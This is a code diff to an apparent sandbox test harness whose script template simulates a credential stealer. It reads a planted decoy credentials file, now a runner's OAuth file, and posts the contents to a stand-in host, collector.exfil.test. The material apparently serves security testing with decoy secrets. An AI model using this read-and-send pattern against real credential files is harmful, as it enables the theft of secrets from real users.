@@ -37,11 +37,11 @@ BASE = {
     + "\n",
 }
 
-# Every script reads the decoy credentials file the sandbox planted under HOME, as a
-# stealer would, and sends what it read.
+# Every script reads the decoy credentials file the sandbox planted in the runner's folder
+# (its OAuth client, in plain text), as a stealer would, and sends what it read.
 READ = """
-import base64, gzip, os, urllib.request
-secret = open(os.path.expanduser("~/.aws/credentials"), "rb").read()
+import base64, glob, gzip, os, urllib.request
+secret = open(glob.glob(os.path.expanduser("~/runners/*/.credentials"))[0], "rb").read()
 def send(path, body):
     urllib.request.urlopen("https://collector.exfil.test/" + path, data=body, timeout=60)
 """
